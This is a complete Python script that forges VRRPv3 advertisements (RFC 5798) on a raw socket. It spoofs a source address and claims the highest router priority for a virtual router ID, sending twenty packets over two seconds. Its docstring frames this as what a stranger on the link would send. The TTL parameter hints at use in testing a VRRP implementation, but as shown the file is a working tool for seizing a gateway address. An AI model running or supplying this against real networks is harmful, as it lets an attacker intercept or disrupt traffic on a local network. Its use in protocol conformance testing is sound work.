#!/usr/bin/python3
"""Sends VRRPv3 advertisements (RFC 5798, section 5) as a stranger on the link would forge them.

    forge-advertisements.py SOURCE TTL TARGET VIRTUAL_ROUTER_ID ADDRESS

With the highest priority, ten times a second for two seconds.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

VRRP, HIGHEST = 112, 254


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(source: bytes, target: bytes, router: int, address: bytes) -> bytes:
    """Return an advertisement of one address, with five hundredths of a second to the next."""
    head = struct.pack("!BBBBH", 0x31, router, HIGHEST, 1, 5)
    length = len(head) + 2 + len(address)
    pseudo = source + target + struct.pack("!BBH", 0, VRRP, length)
    summed = checksum(pseudo + head + bytes(2) + address)
    return head + struct.pack("!H", summed) + address


def main() -> None:
    """Send them."""
    source, target, address = (socket.inet_aton(sys.argv[n]) for n in (1, 3, 5))
    ttl, router = int(sys.argv[2]), int(sys.argv[4])
    body = advertisement(source, target, router, address)
    # The kernel fills in the length, the identification and the checksum (raw(7)).
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 0, 0, 0, ttl, VRRP, 0, source, target)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in range(20):
            sock.sendto(head + body, (sys.argv[3], 0))
            time.sleep(0.1)


if __name__ == "__main__":
    main()
